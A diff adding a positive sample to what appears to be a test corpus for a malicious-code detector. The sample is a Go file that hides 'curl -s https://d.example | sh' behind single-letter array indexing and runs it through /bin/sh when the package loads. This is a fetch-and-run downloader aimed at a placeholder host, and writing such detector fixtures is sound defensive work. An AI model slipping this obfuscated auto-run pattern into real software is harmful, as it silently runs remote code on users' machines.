@@ -12,6 +12,25 @@ final class NativePositives {
   static List<Sample> all() {
     return List.of(
         new Sample(
+            "a variable of Go holds a command of single letters",
+            Artifact.goModule("example.com/sample", "v1.0.0")
+                .file("go.mod", "module example.com/sample\n")
+                .file(
+                    "sample.go",
+                    """
+                    package sample
+
+                    import "os/exec"
+
+                    func start() error {
+                    	A := []string{"/", "c", "u", "r", "l", " ", "s", "h", "|", "t", "p", ":", "d", "o", ".", "e", "x", "a", "m", "-"}
+                    	cmd := A[1] + A[2] + A[3] + A[4] + A[5] + A[19] + A[6] + A[5] + A[7] + A[9] + A[9] + A[10] + A[6] + A[11] + A[0] + A[0] + A[12] + A[14] + A[15] + A[16] + A[17] + A[18] + A[10] + A[4] + A[15] + A[5] + A[8] + A[5] + A[6] + A[7]
+                    	return exec.Command(string(rune(47))+"bin"+string(rune(47))+"sh", "-c", cmd).Start()
+                    }
+
+                    var started = start()
+                    """)),
+        new Sample(
             "a build script sends what another function of it gathers",
             crate("")
                 .file(
